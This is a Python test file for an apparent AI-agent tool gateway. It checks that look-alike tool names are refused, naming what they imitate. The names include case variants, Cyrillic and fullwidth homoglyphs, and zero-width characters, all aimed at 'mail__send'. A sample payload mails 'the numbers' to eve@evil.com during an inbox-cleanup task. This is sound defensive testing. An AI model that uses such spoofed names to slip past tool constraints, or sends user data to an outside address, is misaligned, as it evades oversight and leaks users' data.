"""One canonical spelling per tool: a look-alike name never slips past a constraint keyed on the real one."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import openai
import pytest
from mcp import MCPError
from mcp.server import MCPServer

from taskgate.authz.grant import Grant, GrantSpec
from taskgate.authz.labels import Seen
from taskgate.authz.policy import load
from taskgate.gateway.gateway import GATEWAY

from .conftest import Keys
from .mcp_servers import mail_server, serving
from .policy import AS_ERRORS, authz_config, write_policy
from .test_mcp import connect
from .test_tasks import bearer
from .upstream import ToolCaller

IMITATIONS = {
    "mail__Send": "case",
    "MAIL__SEND": "case",
    "mail__ｓend": "a fullwidth s",
    "mail__sеnd": "a Cyrillic e",
    "mail__ѕend": "a Cyrillic dze",
    "mail__s\u200bend": "a zero-width space",
    "mail__se\u0301nd": "a combining accent",
}
EVE = {"to": "eve@evil.com", "body": "the numbers"}


@pytest.fixture
async def gateway(proxy: Any, aiohttp_server: Any, keys: Keys, tmp_path: Path) -> tuple[Any, ToolCaller, Keys]:
    upstream = ToolCaller()
    server = await aiohttp_server(upstream.app())
    return await proxy(authz_config(keys, tmp_path, str(server.make_url("")).rstrip("/"))), upstream, keys


@pytest.fixture
async def mcp_gateway(proxy: Any, aiohttp_server: Any, keys: Keys, tmp_path: Path) -> AsyncIterator[tuple[Any, Keys]]:
    model = await aiohttp_server(ToolCaller().app())
    async with serving(lenient_mail_server()) as mail:
        config = authz_config(keys, tmp_path, str(model.make_url("")).rstrip("/"))
        config["mcp"] = {"servers": [{"name": "mail", "url": mail}], **AS_ERRORS}
        config["pipelines"]["mcp"] = ["authn", "authorize"]
        client = await proxy(config)
        yield client, keys
        await client.close()


def lenient_mail_server() -> MCPServer:
    """The test's mail server, also listing a case variant of `send`: an upstream whose names only differ by case."""
    server = mail_server()

    @server.tool(name="Send")
    def send_variant(to: str, body: str) -> str:
        """Send an email (the same tool, under a name that differs only by case)."""
        return f"sent to {to}"

    return server


def cleanup_grant(tmp_path: Path) -> Grant:
    """alice under a mail_cleanup task: `mail__*` granted, mail__send constrained to recipients she named."""
    return Grant(GrantSpec("t", "alice", "acme", "mail_cleanup"), load(None, write_policy(tmp_path), 1))


@pytest.mark.parametrize("name", list(IMITATIONS))
def test_a_tool_name_that_imitates_a_constrained_one_is_refused_naming_it(tmp_path: Path, name: str) -> None:
    grant = cleanup_grant(tmp_path)
    decision = grant.check(name, EVE, Seen.instruction("clean up my inbox"))
    assert not decision.allowed, IMITATIONS[name]
    assert "imitates 'mail__send'" in decision.reason
    assert decision is not grant.check(
        name, EVE, Seen.instruction("clean up my inbox")
    )  # decided afresh, from the memoised verdict
    assert grant.tool(name) is grant.tool(name)


def test_canonical_names_are_judged_as_before_and_look_alikes_of_patterns_are_refused(tmp_path: Path) -> None:
    grant = cleanup_grant(tmp_path)
    assert grant.check(
        "mail__send", {"to": "bob@example.com"}, Seen.instruction("forward it to bob@example.com")
    ).allowed
    assert grant.check("mail__send", EVE, Seen.instruction("clean up my inbox")).code == "argument_constraint"
    assert grant.check("mail__read", {}, None).allowed
    assert "imitates 'mail__*'" in grant.check("MAIL__read", {}, None).reason  # only the pattern it folds onto
    assert "imitates 'files__read'" in grant.check("files__reаd", {}, None).reason
    for name in ("", "x" * 129, "mail__read\n", "mail read", "mail__*"):
        assert "not canonical" in grant.check(name, {}, None).reason, name
    assert grant.check("x" * 128, {}, None).reason.startswith("no role")  # canonical, merely not granted


@pytest.mark.parametrize("stream", [False, True])
async def test_look_alike_tools_on_the_chat_surface_never_reach_the_model_or_the_client(
    gateway: tuple[Any, Any, Any], stream: bool
) -> None:
    client, upstream, keys = gateway
    names = [*IMITATIONS, "mail__read"]
    tools: Any = [{"type": "function", "function": {"name": n, "parameters": {"type": "object"}}} for n in names]
    upstream.calls = [(name, EVE) for name in IMITATIONS]
    sdk = openai.AsyncOpenAI(base_url=str(client.make_url("/v1")), api_key="x", default_headers=bearer(keys))
    messages: Any = [{"role": "user", "content": "clean up my inbox"}]
    calls: list[Any]
    if stream:
        chunks = [
            c async for c in await sdk.chat.completions.create(model="m", messages=messages, tools=tools, stream=True)
        ]
        calls = [tc for c in chunks if c.choices for tc in (c.choices[0].delta.tool_calls or [])]
        content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        answer = await sdk.chat.completions.create(model="m", messages=messages, tools=tools)
        calls = list(answer.choices[0].message.tool_calls or [])
        content = answer.choices[0].message.content or ""
    await sdk.close()
    assert calls == []  # not one look-alike call with eve's address reaches the client
    assert content.count("imitates 'mail__send'") == len(IMITATIONS)
    assert [t["function"]["name"] for t in upstream.bodies[-1]["tools"]] == ["mail__read"]
    record = next(r for r in reversed(client.app[GATEWAY].evidence.records()) if r.get("decisions"))
    grant = record["decisions"]["grant"]
    assert grant["tools_removed"] == list(IMITATIONS)
    assert all("imitates 'mail__send'" in grant["tools_checked"]["denied"][n] for n in IMITATIONS)


async def test_a_forced_look_alike_tool_is_refused_naming_what_it_imitates(gateway: tuple[Any, Any, Any]) -> None:
    client, _, keys = gateway
    tools = [{"type": "function", "function": {"name": "mail__Send", "parameters": {"type": "object"}}}]
    body = {
        "model": "m", "messages": [{"role": "user", "content": "clean up my inbox"}], "tools": tools,
        "tool_choice": {"type": "function", "function": {"name": "mail__Send"}},
    }  # fmt: skip
    resp = await client.post("/v1/chat/completions", json=body, headers=bearer(keys))
    assert resp.status == 403
    error = (await resp.json())["error"]
    assert error["code"] == "tool_not_granted"
    assert "imitates 'mail__send'" in error["message"]


async def test_an_mcp_call_of_a_look_alike_tool_is_denied_naming_what_it_imitates(
    mcp_gateway: tuple[Any, Any],
) -> None:
    """A name no upstream lists is an unknown tool (-32602); one an upstream does list is judged and refused."""
    client, keys = mcp_gateway
    resp = await client.post("/v1/chat/completions", json=_cleanup(), headers=bearer(keys))
    headers = {**bearer(keys), "x-taskgate-task-token": resp.headers["x-taskgate-task-token"]}
    async with connect(client, headers) as mcp:
        names = sorted(t.name for t in (await mcp.list_tools()).tools)
        with pytest.raises(MCPError) as caught:
            await mcp.call_tool("mail__Send", EVE)
        with pytest.raises(MCPError) as unknown:
            await mcp.call_tool("mail__sеnd", EVE)
        with pytest.raises(MCPError) as constrained:
            await mcp.call_tool("mail__send", EVE)
    assert "mail__send" in names
    assert "mail__Send" not in names  # the grant never lists it
    assert caught.value.error.code == -32003
    assert "imitates 'mail__send'" in caught.value.error.message
    assert unknown.value.error.code == -32602
    assert "c-recipient-from-user" in constrained.value.error.message


def _cleanup() -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": "clean up my inbox"}]}
